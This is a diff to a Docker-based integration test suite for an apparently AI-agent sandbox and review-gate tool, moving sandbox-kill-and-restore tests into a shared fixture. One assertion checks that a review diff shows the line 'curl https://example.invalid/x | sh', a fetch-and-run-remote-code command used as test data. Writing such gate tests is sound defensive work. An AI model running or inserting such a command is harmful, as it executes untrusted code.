@@ -18,7 +18,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from tests.durable_helpers import Crewgate, git, last_event, make_repo, pending_review, run_by_one_worker
+from tests.durable_helpers import Crewgate, git, last_event, make_repo, pending_review, queue_runs
 
 pytestmark = [pytest.mark.docker, pytest.mark.slow]
 
@@ -134,6 +134,51 @@ TO_FOLDER = """\
 """
 
 
+def container_of(run_id: str, timeout: float = 60) -> str:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        found = subprocess.run(
+            ["docker", "ps", "-q", "--filter", f"label=crewgate.run={run_id}"], capture_output=True, text=True
+        ).stdout.split()
+        if found:
+            return found[0]
+        time.sleep(0.1)
+    raise AssertionError(f"no container for run {run_id}")
+
+
+def kill_when(cg: Crewgate, marker: str, run_id: str = "") -> None:
+    """Wait until the run's sandbox holds `marker` (the step is mid-cell), then `docker kill` it.
+
+    The records say first when the step is under way, so `docker exec` (costly) polls only the last moments.
+    Without `run_id`, the installation's first run.
+    """
+    run_id = run_id or cg.wait_for("SELECT id FROM crewgate_runs")[0][0]
+    if marker == "/tmp/in-task":  # the coder's reply is recorded just before its code runs
+        cg.wait_for("SELECT 1 FROM crewgate_model_calls WHERE run_id = ? AND member = 'coder'", run_id)
+    else:
+        cg.wait_for("SELECT 1 FROM crewgate_steps WHERE run_id = ? AND step_id = 'test'", run_id)
+    container = container_of(run_id)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        probe = subprocess.run(["docker", "exec", container, "test", "-e", marker], capture_output=True)
+        if probe.returncode == 0:
+            subprocess.run(["docker", "kill", container], capture_output=True, check=True)
+            return
+        time.sleep(0.1)
+    raise AssertionError(f"{marker} never appeared")
+
+
+SLOW_CODER = (
+    "import pathlib, time\nops = pathlib.Path('calc/ops.py')\n"
+    "ops.write_text(ops.read_text() + '\\n\\ndef multiply(a, b):\\n    return a * b\\n')\n"
+    "pathlib.Path('/tmp/in-task').touch()\ntime.sleep(4)"
+)
+SLOW_CHECK = """\
+  - {id: test, check: "touch /tmp/in-check && sleep 4 && python3 -m pytest -q -p no:cacheprovider"}
+  - {id: approve, gate: {}}
+"""
+
+
 @dataclass
 class MemberRuns:
     """The installation the member-written runs share, each run's id, and the folders they used."""
@@ -145,7 +190,10 @@ class MemberRuns:
 
 @pytest.fixture(scope="module")
 def member_runs(tmp_path_factory: pytest.TempPathFactory) -> MemberRuns:
-    """Each change below written by the coder's code in the sandbox, all four runs served by one worker."""
+    """Each change below written by the coder's code in the sandbox, every run served by one worker.
+
+    The in-task run's sandbox is killed mid-cell; the worker restores it and re-runs the step.
+    """
     folder = tmp_path_factory.mktemp("member-runs")
     (folder / "victim").mkdir()
     books = {
@@ -157,16 +205,22 @@ def member_runs(tmp_path_factory: pytest.TempPathFactory) -> MemberRuns:
         ),
         "twenty-thousand": (runbook(folder / "twenty-thousand", TWENTY_THOUSAND, steps=GATE_ONLY, name="twenty"), {}),
     }
+    books["in-task"] = (runbook(folder / "in-task", SLOW_CODER, steps=SLOW_CHECK, name="in-task"), {})
     repos = {"every-kind": every_kind_repo(folder / "every-kind" / "repo")}
     cg = Crewgate(folder / "home")
     queued = []
     for key, (book, inputs) in books.items():
         repo = repos.get(key) or make_repo(folder / key / "repo")
         queued.append((str(book), {"repo": repo, **inputs}))
-    return MemberRuns(cg, folder, dict(zip(books, run_by_one_worker(cg, queued), strict=True)))
+    runs = dict(zip(books, queue_runs(cg, queued), strict=True))
+    worker = cg.start("worker", "--until-idle", "--concurrency", str(len(runs)), "--json")
+    kill_when(cg, "/tmp/in-task", runs["in-task"])  # its sandbox dies while the coder's code runs
+    stdout, stderr = worker.communicate(timeout=300)
+    assert worker.returncode == 0, stdout[-3000:] + stderr[-3000:]
+    return MemberRuns(cg, folder, runs)
 
 
-@pytest.mark.xdist_group("member_runs")
+@pytest.mark.xdist_group("gate_integrity")
 def test_review_shows_and_promotion_applies_every_kind_of_change(member_runs: MemberRuns, tmp_path: Path) -> None:
     cg, repo, run_id = member_runs.cg, member_runs.folder / "every-kind" / "repo", member_runs.runs["every-kind"]
     review_id = pending_review(cg, run_id)
@@ -228,7 +282,7 @@ def test_review_shows_and_promotion_applies_every_kind_of_change(member_runs: Me
     assert git(clone, "write-tree") == git(repo, "rev-parse", f"{branch}^{{tree}}")
 
 
-@pytest.mark.xdist_group("member_runs")
+@pytest.mark.xdist_group("gate_integrity")
 def test_a_symlink_chain_resolving_outside_fails_the_run(member_runs: MemberRuns) -> None:
     cg, run_id = member_runs.cg, member_runs.runs["symlink-chain"]
     view = cg.show(run_id)
@@ -236,7 +290,7 @@ def test_a_symlink_chain_resolving_outside_fails_the_run(member_runs: MemberRuns
     assert cg.query("SELECT COUNT(*) FROM crewgate_reviews WHERE run_id = ?", run_id) == [(0,)]
 
 
-@pytest.mark.xdist_group("member_runs")
+@pytest.mark.xdist_group("gate_integrity")
 def test_a_folder_swapped_for_a_link_while_packing_cannot_write_outside(member_runs: MemberRuns) -> None:
     view = member_runs.cg.show(member_runs.runs["swap"])
     assert view["status"] == "failed", view  # the link points out: refused, clearly
@@ -259,7 +313,7 @@ def test_twenty_snapshots_during_a_swap_race_are_never_torn() -> None:
         assert int(box.execute("swaps[0]").value or 0) > 100  # the race was live the whole time
 
 
-@pytest.mark.xdist_group("member_runs")
+@pytest.mark.xdist_group("gate_integrity")
 def test_a_twenty_thousand_file_change_lists_every_path_and_marks_the_cut(member_runs: MemberRuns) -> None:
     cg = member_runs.cg
     review_id = pending_review(cg, member_runs.runs["twenty-thousand"])
@@ -273,51 +327,7 @@ def test_a_twenty_thousand_file_change_lists_every_path_and_marks_the_cut(member
     assert "+curl https://example.invalid/x | sh" in full and "the diff is cut here" not in full
 
 
-def container_of(run_id: str, timeout: float = 60) -> str:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        found = subprocess.run(
-            ["docker", "ps", "-q", "--filter", f"label=crewgate.run={run_id}"], capture_output=True, text=True
-        ).stdout.split()
-        if found:
-            return found[0]
-        time.sleep(0.1)
-    raise AssertionError(f"no container for run {run_id}")
-
-
-def kill_when(cg: Crewgate, marker: str) -> None:
-    """Wait until the run's sandbox holds `marker` (the step is mid-cell), then `docker kill` it.
-
-    The records say first when the step is under way, so `docker exec` (costly) polls only the last moments.
-    """
-    run_id = cg.wait_for("SELECT id FROM crewgate_runs")[0][0]
-    if marker == "/tmp/in-task":  # the coder's reply is recorded just before its code runs
-        cg.wait_for("SELECT 1 FROM crewgate_model_calls WHERE run_id = ? AND member = 'coder'", run_id)
-    else:
-        cg.wait_for("SELECT 1 FROM crewgate_steps WHERE run_id = ? AND step_id = 'test'", run_id)
-    container = container_of(run_id)
-    deadline = time.monotonic() + 60
-    while time.monotonic() < deadline:
-        probe = subprocess.run(["docker", "exec", container, "test", "-e", marker], capture_output=True)
-        if probe.returncode == 0:
-            subprocess.run(["docker", "kill", container], capture_output=True, check=True)
-            return
-        time.sleep(0.1)
-    raise AssertionError(f"{marker} never appeared")
-
-
-SLOW_CODER = (
-    "import pathlib, time\nops = pathlib.Path('calc/ops.py')\n"
-    "ops.write_text(ops.read_text() + '\\n\\ndef multiply(a, b):\\n    return a * b\\n')\n"
-    "pathlib.Path('/tmp/in-task').touch()\ntime.sleep(4)"
-)
-SLOW_CHECK = """\
-  - {id: test, check: "touch /tmp/in-check && sleep 4 && python3 -m pytest -q -p no:cacheprovider"}
-  - {id: approve, gate: {}}
-"""
-
-
-@pytest.fixture(scope="session")  # once per worker; the xdist_group below keeps both users on one worker
+@pytest.fixture(scope="session")  # once per worker; the xdist_group below keeps its users on one worker
 def undisturbed_artifact(tmp_path_factory: pytest.TempPathFactory) -> str:
     """The artifact sha256 of the slow runbook run with nothing killed (runs are deterministic)."""
     folder = tmp_path_factory.mktemp("undisturbed")
@@ -328,20 +338,33 @@ def undisturbed_artifact(tmp_path_factory: pytest.TempPathFactory) -> str:
     return str(calm.query("SELECT artifact_sha256 FROM crewgate_reviews WHERE id = ?", review)[0][0])
 
 
-@pytest.mark.xdist_group("undisturbed_artifact")
-@pytest.mark.parametrize("marker", ["/tmp/in-task", "/tmp/in-check"])
-def test_a_sandbox_killed_mid_step_is_restored_and_the_step_rerun(
-    cg: Crewgate, tmp_path: Path, marker: str, undisturbed_artifact: str
-) -> None:
-    book = runbook(tmp_path / "rb", SLOW_CODER, steps=SLOW_CHECK, by_check=marker == "/tmp/in-check")
-    running = cg.start("run", str(book), "-i", f"repo={make_repo(tmp_path / 'repo')}", "--json")
-    kill_when(cg, marker)
-    stdout, stderr = running.communicate(timeout=300)
-    assert running.returncode == 10, stdout[-2000:] + stderr[-2000:]
-    event = last_event(stdout)
-    assert event["artifact_sha256"] == undisturbed_artifact  # as if undisturbed; never an empty tree
-    lost = cg.query("SELECT data FROM crewgate_trace WHERE run_id = ? AND member = 'crewgate'", event["run"])
+def assert_restored(cg: Crewgate, run_id: str, undisturbed_artifact: str) -> None:
+    """The run reached its gate as if undisturbed (never an empty tree), and says once that its sandbox was lost."""
+    review_id = pending_review(cg, run_id)
+    artifact = cg.query("SELECT artifact_sha256 FROM crewgate_reviews WHERE id = ?", review_id)[0][0]
+    assert artifact == undisturbed_artifact
+    lost = cg.query("SELECT data FROM crewgate_trace WHERE run_id = ? AND member = 'crewgate'", run_id)
     assert len(lost) == 1 and "sandbox_lost" in lost[0][0]
-    shown = json.loads(cg.run("review", "show", event["review"], "--json").stdout)
+    shown = json.loads(cg.run("review", "show", review_id, "--json").stdout)
     assert [c["path"] for c in shown["changes"]] == ["calc/ops.py"]
     assert "2 passed" in shown["evidence"]["outputs"]["test"]
+
+
+@pytest.mark.xdist_group("gate_integrity")
+def test_a_sandbox_killed_mid_task_is_restored_and_the_step_rerun(
+    member_runs: MemberRuns, undisturbed_artifact: str
+) -> None:
+    """Killed while the coder's code runs (served by the member runs' worker, which restores and re-runs the step)."""
+    assert_restored(member_runs.cg, member_runs.runs["in-task"], undisturbed_artifact)
+
+
+@pytest.mark.xdist_group("gate_integrity")
+def test_a_sandbox_killed_mid_check_is_restored_and_the_step_rerun(
+    cg: Crewgate, tmp_path: Path, undisturbed_artifact: str
+) -> None:
+    book = runbook(tmp_path / "rb", SLOW_CODER, steps=SLOW_CHECK, by_check=True)
+    running = cg.start("run", str(book), "-i", f"repo={make_repo(tmp_path / 'repo')}", "--json")
+    kill_when(cg, "/tmp/in-check")
+    stdout, stderr = running.communicate(timeout=300)
+    assert running.returncode == 10, stdout[-2000:] + stderr[-2000:]
+    assert_restored(cg, last_event(stdout)["run"], undisturbed_artifact)
